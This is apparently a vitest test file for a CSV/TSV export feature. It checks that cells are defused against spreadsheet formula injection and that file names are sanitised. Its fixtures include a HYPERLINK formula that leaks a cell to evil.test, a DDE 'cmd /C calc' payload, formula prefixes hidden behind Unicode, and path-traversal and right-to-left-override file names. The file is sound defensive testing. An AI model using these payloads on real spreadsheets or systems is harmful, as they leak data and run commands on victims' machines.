import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it, vi } from 'vitest';
import { columnsOf, type Row } from '../../lib/columns.ts';
import { endpoints } from '../../lib/endpoints/index.ts';
import { csv, tsv } from '../../lib/export/csv.ts';
import { fileNameOf } from '../../lib/export/file-name.ts';
import { rawRow } from '../fixtures/raw.ts';
import { about, column, hostile, hostileRows, wholeOf } from './export-parts.ts';

// A busy machine needs longer for a hundred random texts than the usual five seconds.
vi.setConfig({ testTimeout: 30_000 });

const cellsOf = (text: string, delimiter = ','): string[][] => Papa.parse<string[]>(text.replace(/\r?\n$/, ''), { delimiter }).data;
const csvOf = (...[columns, rows]: [Parameters<typeof csv>[0], readonly Row[]]): string => wholeOf(csv(columns, rows, about));
/** What one value comes back as. */
const roundTrip = (value: unknown): string => cellsOf(csvOf([column('v')], [{ v: value }]))[1]?.[0] ?? '';
const clean = (text: string): string => text.replace(/(?![\t\n\r])[\p{Cc}\p{Cs}]/gu, '');
/** What a spreadsheet would run. */
const runs = /^[\s\ufeff\u200b]*[=+\-@＝＋－＠|]/;

describe('a cell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.test/?"&A1,"x")', `'=HYPERLINK("https://evil.test/?"&A1,"x")`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['-1+1', "'-1+1"],
    ['+1', "'+1"],
    ['@handle', "'@handle"],
    ['|calc', "'|calc"],
    ['\n=1+1', "'\n=1+1"],
    [' =1+1', "' =1+1"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['\u3000=1+1', "'\u3000=1+1"],
    ['\ufeff=1+1', "'\ufeff=1+1"],
    ['\u200b=1+1', "'\u200b=1+1"],
    ['\u202e=1+1', "'\u202e=1+1"],
    ['safe\n=1+1', "'safe\n=1+1"],
    ['safe\r\n=1+1', "'safe\r\n=1+1"],
    ['safe\r=1+1', "'safe\r=1+1"],
    ['safe\u2028=1+1', "'safe\u2028=1+1"],
    ['\t1', "'\t1"],
    ['\r1', "'\r1"],
    ['＝1', "'＝1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['\0=1+1', "'=1+1"],
    ['=\0', "'="],
    ['-5', "'-5"],
  ])('of %j is no formula', (text, cell) => {
    expect(roundTrip(text)).toBe(cell);
  });

  it.each(['a,b"c\nd;e\tf', '"=1+1', '";=1+1', '%3D1+1', 'a=b', 'plain', 'Форбс', 'فوربس', '__proto__', 'null', 'NaN', '1e5', '007', ' '])(
    'of %j comes back as it was',
    (text) => {
      expect(roundTrip(text)).toBe(text);
    },
  );

  it('writes numbers as numbers, flags as words, nothing for null, and quotes every text', () => {
    const row = { n: -0.5, big: 2_314_870_551_203, no: null, flag: false, text: 'a', blank: '' };
    const names = Object.keys(row);
    const [head, line] = csvOf(
      names.map((name) => column(name)),
      [row],
    ).split('\r\n');
    expect(head).toBe('"n","big","no","flag","text","blank"');
    expect(line).toBe('-0.5,2314870551203,,false,"a",""');
  });

  it('writes distributions, tags, lists and maps as JSON', () => {
    expect(JSON.parse(roundTrip({ '': 19, NL: 8 }))).toEqual({ '': 19, NL: 8 });
    expect(JSON.parse(roundTrip(['nofollow', '=1+1']))).toEqual(['nofollow', '=1+1']);
    expect(JSON.parse(roundTrip([{ type: 'redirect', url: null }]))).toEqual([{ type: 'redirect', url: null }]);
  });

  it('has no control characters but the tab and line ends, and no half of a pair', () => {
    expect(roundTrip('a\0\x07\x1b[31m\x7f\x85\ud800b\tc\nd')).toBe('a[31mb\tc\nd');
  });

  it('is text again with at most an apostrophe more, whatever the text', { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 }), (texts) => {
        const rows = texts.map((v) => ({ v, w: 'x' }));
        const cells = cellsOf(csvOf([column('v'), column('w')], rows)).slice(1);
        expect(cells).toHaveLength(texts.length);
        for (const [at, [cell = '', next]] of cells.entries()) {
          const text = clean(texts[at] ?? '');
          expect([text, `'${text}`]).toContain(cell);
          expect(cell).not.toMatch(/^[\s\ufeff]*[=+\-@]/);
          expect(next).toBe('x');
        }
      }),
    );
  });
});

describe('hostile texts', () => {
  it('come back from CSV as they were, with at most an apostrophe more', { timeout: 60_000 }, () => {
    const cells = cellsOf(csvOf([column('v'), column('w')], hostileRows)).slice(1);
    expect(cells).toHaveLength(hostile.length);
    for (const [at, [cell, next]] of cells.entries()) {
      const text = clean(hostile[at] ?? '');
      expect(cell === text || cell === `'${text}`).toBe(true);
      expect(runs.test(cell ?? '')).toBe(false);
      expect(next).toBe('x');
    }
  });

  it('come back from the clipboard on one line each', { timeout: 60_000 }, () => {
    const pasted = wholeOf(tsv([column('v'), column('w')], hostileRows, about));
    expect(pasted.split('\n')).toHaveLength(hostile.length + 2);
    for (const [at, [cell, next]] of cellsOf(pasted, '\t').slice(1).entries()) {
      const text = clean(hostile[at] ?? '').replace(/[\t\n\r\u2028\u2029]+/g, ' ');
      expect(cell === text || cell === `'${text}`).toBe(true);
      expect(runs.test(cell ?? '')).toBe(false);
      expect(next).toBe('x');
    }
  });

  it('cannot become a formula by a spreadsheet that takes quotes off once more', () => {
    expect(wholeOf(tsv([column('v')], [{ v: '"=1+1"' }], about)).split('\n')[1]).toBe('"""=1+1"""');
  });
});

describe('what may stand before the rows', () => {
  it('is nothing unless asked for', () => {
    expect(csvOf([column('v')], [])).toBe('"v"\r\n');
    expect(wholeOf(tsv([column('v')], [], about))).toBe('v\n');
  });

  it('is a byte order mark', () => {
    expect(wholeOf(csv([column('v')], [], about, { byteOrderMark: true }))).toBe('\ufeff"v"\r\n');
  });

  it('is lines that say what it is, which readers skip and no spreadsheet splits or runs', () => {
    const hostileAbout = { ...about, targets: ['a,=1+1', 'b\n=2', '";=3'] };
    const text = wholeOf(csv([column('v')], [{ v: 'a' }], hostileAbout, { comments: true }));
    const lines = text.split('\r\n').filter((line) => line.startsWith('#'));
    expect(lines).toHaveLength(11);
    expect(lines.join('')).not.toMatch(/[",;\t\n]/);
    expect(text).toContain('# Fetched (UTC): 2026-11-22 12:30:01');
    expect(text).toContain('# Exported: Filtered view');
    expect(Papa.parse(text, { comments: '#', skipEmptyLines: true }).data).toEqual([['v'], ['a']]);
  });
});

describe('a file of each report', () => {
  it.each(endpoints.map((endpoint) => [endpoint.id, endpoint] as const))('%s has every column under its path', (_, endpoint) => {
    const rows = [rawRow(endpoint.row), {}] as Row[];
    const columns = columnsOf(endpoint, { rows, head: rawRow(endpoint.head) });
    const [head = [], full = [], empty = []] = cellsOf(csvOf(columns, rows));
    expect(head).toEqual(columns.map(({ path }) => path));
    expect(new Set(head).size).toBe(head.length);
    expect(full).toHaveLength(head.length);
    expect(empty.join('')).toBe('');
    for (const [at, { value }] of columns.entries()) {
      const raw = value(rows[0] as Row);
      if (raw !== null) expect(full[at]).toBe(typeof raw === 'object' ? JSON.stringify(raw) : String(raw));
    }
  });
});

describe('the name of a file', () => {
  const report = { targets: ['forbes.com'], endpoint: 'backlinks', fetchedAt: Date.UTC(2026, 10, 22, 12), rows: 100, total: 48_213 };

  it('says what, which report, which day, and how much of it', () => {
    expect(fileNameOf(report)).toBe('forbes.com_backlinks_20261122_100-of-48213.csv');
    expect(fileNameOf({ ...report, total: null })).toBe('forbes.com_backlinks_20261122_100-of-100.csv');
    expect(fileNameOf({ ...report, targets: [] })).toBe('backlinks_20261122_100-of-48213.csv');
    expect(fileNameOf({ ...report, targets: ['a.com', 'b.com', 'c.com'] })).toMatch(/^a\.com-and-2-more_/);
  });

  it('has the ending of its format', () => {
    expect(fileNameOf(report, 'xlsx')).toBe('forbes.com_backlinks_20261122_100-of-48213.xlsx');
  });

  it.each([
    'https://www.forbes.com/lists/?a=b&c=d#e',
    '../../etc/passwd',
    'con.com',
    'NUL',
    '.hidden',
    'a\u202egpj.exe',
    'a:b*c?d"e<f>g|h\\i',
    `${'a'.repeat(300)}.com`,
    '   ',
    '\0',
  ])('is safe for %j', (target) => {
    const name = fileNameOf({ ...report, targets: [target] });
    expect(name).toMatch(/^[\p{L}\p{N}_-][\p{L}\p{N}._-]*\.csv$/u);
    expect(name.length).toBeLessThan(140);
    expect(name).not.toMatch(/^(?:con|nul)\./i);
    expect(name).not.toContain('..');
  });
});
